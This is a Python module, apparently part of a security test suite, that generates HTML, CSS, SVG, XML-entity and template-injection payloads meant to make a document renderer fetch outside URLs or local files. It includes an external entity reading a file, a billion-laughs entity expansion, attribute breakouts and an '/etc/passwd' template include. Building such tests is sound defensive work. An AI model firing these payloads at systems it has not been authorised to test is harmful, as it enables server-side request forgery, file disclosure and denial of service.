"""A hundred ways to make a paper fetch something: each form with each kind of address."""

from collections.abc import Iterator

ADDRESSES = (
    "http://{host}/a",
    "https://{host}/b",
    "//{host}/c",
    "ftp://{host}/d",
    "{file}",
    "http://{host}/redirect",
    "data:text/html,{host}",
)
FORMS = (
    '<img src="{at}" alt="x">',
    '<link rel="stylesheet" href="{at}">',
    '<link rel="attachment" href="{at}">',
    '<style>@import url("{at}");</style>',
    "<style>@font-face{{font-family:x;src:url({at})}}p{{font-family:x}}</style>",
    "<style>p{{background:url({at})}}</style>",
    '<p style="list-style-image:url({at});content:url({at})">x</p>',
    '<svg viewBox="0 0 9 9"><image href="{at}" width="9" height="9"/></svg>',
    '<svg viewBox="0 0 9 9"><use href="{at}#a"/></svg>',
    '<embed src="{at}">',
    '<object data="{at}"></object>',
    '<iframe src="{at}"></iframe>',
    '<a href="{at}" rel="attachment">x</a>',
)
ODD = (
    '<base href="http://{host}/">',
    '<meta http-equiv="refresh" content="0;url=http://{host}/m">',
    '<a href="javascript:alert(1)">x</a>',
    '"><img src=http://{host}/q>',
    "'><img src='http://{host}/q'>",
    "</textarea></style><img src=http://{host}/r>",
    "<?xml-stylesheet href='http://{host}/s'?>",
    "<!ENTITY x SYSTEM '{file}'>&x;",
    "<!ENTITY a 'aa'><!ENTITY b '&a;&a;&a;'>&b;",
    "url({file}) \\75rl(http://{host}/u)",
)
NOT_HTML = ("{{{{ 7 * 7 }}}} {{% include '/etc/passwd' %}}", "{{{{ report.__class__ }}}}")
"""Only as text: as parts of a template they are another test's."""


def markup(host: str, file: str) -> Iterator[str]:
    """Payloads that are HTML; in a page that let them in, each would fetch."""
    for form in FORMS:
        for address in ADDRESSES:
            yield form.format(at=address.format(host=host, file=file))
    for odd in ODD:
        yield odd.format(host=host, file=file)


def payloads(host: str, file: str) -> list[str]:
    """All of them, to be typed into every field."""
    return [*markup(host, file), *(one.format() for one in NOT_HTML)]
